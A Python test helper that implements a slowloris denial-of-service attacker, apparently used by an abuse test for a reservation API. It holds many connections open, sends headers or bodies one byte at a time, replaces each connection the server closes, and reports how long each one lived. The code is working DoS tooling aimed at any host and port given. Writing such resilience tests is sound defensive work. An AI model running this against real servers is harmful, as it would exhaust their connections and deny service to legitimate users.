"""A slowloris attacker for test_abuse.py: holds N connections to host:port, each sending a byte
every few seconds (a head that never ends, a body that never ends, or nothing at all), replaces
each one the server closes, and after D seconds prints one JSON line: for every connection opened,
how long it lived and whether the server closed it. Runs as its own process so that its work does
not slow the test's bookings through Python's lock.

usage: slowloris.py HOST PORT CONNECTIONS SECONDS [INTERVAL]"""

import errno
import json
import random
import resource
import selectors
import socket
import sys
import time

HEAD = b"POST /v1/events/slow/reservations HTTP/1.1\r\nHost: a\r\nX-Pad: " + b"a" * 4000
BODY_HEAD = (b"POST /v1/events/slow/reservations HTTP/1.1\r\nHost: a\r\n"
             b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n")


def main():
    host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 3.0
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    sel = selectors.DefaultSelector()
    conns = {}          # socket -> state
    done = []           # (kind, lifetime, closed_by_server)
    refused = [0]
    start = time.monotonic()
    end = start + seconds

    def open_one(i):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            refused[0] += 1
            s.close()
            return
        kind = ("head", "body", "silent", "head")[i % 4]
        now = time.monotonic()
        st = {"kind": kind, "opened": now, "sent": 0, "next": now + random.uniform(0.05, 0.5)}
        conns[s] = st
        sel.register(s, selectors.EVENT_READ, st)

    def closed(s, by_server):
        st = conns.pop(s)
        sel.unregister(s)
        s.close()
        done.append((st["kind"], time.monotonic() - st["opened"], by_server))

    for i in range(n):
        open_one(i)
    seq = n
    while True:
        now = time.monotonic()
        if now >= end:
            break
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            try:
                data = s.recv(65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:                  # the server closed it (FIN or RST)
                closed(s, True)
                open_one(seq)             # the attacker keeps its number up
                seq += 1
        now = time.monotonic()
        for s, st in list(conns.items()):
            if st["next"] > now or st["kind"] == "silent":
                continue
            st["next"] = now + interval * random.uniform(0.8, 1.2)
            if st["kind"] == "head":
                chunk = HEAD[st["sent"]:st["sent"] + 1]
            else:
                # the whole head at once, then the body a byte at a time
                chunk = BODY_HEAD if st["sent"] == 0 else b"{"
            try:
                st["sent"] += s.send(chunk or b"a")
            except (BlockingIOError, InterruptedError):
                pass
            except OSError as e:
                if e.errno in (errno.EPIPE, errno.ECONNRESET):
                    closed(s, True)
                    open_one(seq)
                    seq += 1
    now = time.monotonic()
    still = [(st["kind"], now - st["opened"], False) for st in conns.values()]
    for s in list(conns):
        s.close()
    print(json.dumps({"closed": done, "open": still, "refused": refused[0],
                      "opened": seq, "seconds": now - start}))


if __name__ == "__main__":
    main()
